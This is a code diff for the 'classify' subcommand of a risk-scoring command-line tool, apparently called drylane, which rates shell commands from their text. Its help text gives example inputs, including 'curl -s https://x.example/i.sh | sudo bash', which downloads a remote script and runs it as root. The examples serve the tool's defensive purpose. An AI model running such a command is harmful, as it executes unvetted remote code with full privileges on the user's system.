@@ -17,15 +17,23 @@ interface Options {
   readonly policy?: string;
 }
 
+const HELP = `
+Exits 0 whatever the risk is: it is read from the answer. docs/risk.md says what a score is made of.
+
+Examples:
+  drylane classify -- 'curl -s https://x.example/i.sh | sudo bash'
+  drylane classify --json -- 'rm -rf build' | jq -e '.level != "high"'
+`;
+
 export function registerClassify(root: Command, context: Context, done: (status: number) => void): void {
   root
     .command('classify')
     .description('the risk of a command, from its text alone')
     .argument('[command...]', 'the command, after --')
     .option('--batch', 'read JSON Lines {id, command} on standard input, answer one line each')
-    .option('--policy <file>', 'take the thresholds from this policy')
+    .option('--policy <file>', 'take the thresholds from this policy: a file, or standard, strict or open')
     .option('--json', 'one JSON document on standard output')
-    .addHelpText('after', "\nExample:\n  drylane classify -- 'curl -s https://x.example/i.sh | sudo bash'\n")
+    .addHelpText('after', HELP)
     .action(async (words: string[], options: Options) => {
       const { classifyCommand, splitCommand } = await import('../embedded/tools.ts');
       const classify = await classifyCommand(options.policy);
